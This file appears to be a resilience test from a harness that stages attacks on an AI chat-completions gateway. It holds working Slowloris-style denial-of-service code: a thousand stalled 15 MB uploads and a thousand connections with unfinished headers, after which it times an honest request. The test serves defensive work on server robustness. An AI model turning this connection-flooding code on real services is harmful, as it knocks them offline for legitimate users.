// A thousand uploads that never end, and a thousand connections that never say what they want.
import { connect } from "node:net";
import { setTimeout as wait } from "node:timers/promises";
import { createAttack, send } from "./stage/stage.mjs";

const COUNT = 1_000;

function open(target, head) {
  const { hostname, port } = new URL(target.url);
  const socket = connect({ host: hostname, port: Number(port) }, () => socket.write(head));
  socket.on("error", () => {}).resume();
  const timer = setInterval(() => socket.writable && socket.write("x".repeat(100)), 1_000);
  socket.on("close", () => clearInterval(timer));
  return socket;
}

export default createAttack({
  name: "slow uploads and silent connections",
  tries: 2 * COUNT,
  keys: { mallory: {}, honest: {} },
  async attack(target) {
    const upload = `POST /v1/chat/completions HTTP/1.1\r\nhost: x\r\nauthorization: Bearer ${target.secrets.mallory}\r\ncontent-length: 15000000\r\n\r\n{`;
    const sockets = [];
    for (let i = 0; i < COUNT; i++)
      sockets.push(open(target, upload), open(target, "POST /v1/chat/completions HTTP/1.1\r\n"));
    await wait(8_000);
    const body = JSON.stringify({ model: "stub/alpha", messages: [{ role: "user", content: "Hi" }] });
    const startedAt = performance.now();
    const status = await send(target, "/v1/chat/completions", { key: "honest", body });
    const honestMs = Math.round(performance.now() - startedAt);
    for (const socket of sockets) socket.destroy();
    if (status !== 200) throw new Error(`an honest request got ${status}`);
    return { honestMs };
  },
});
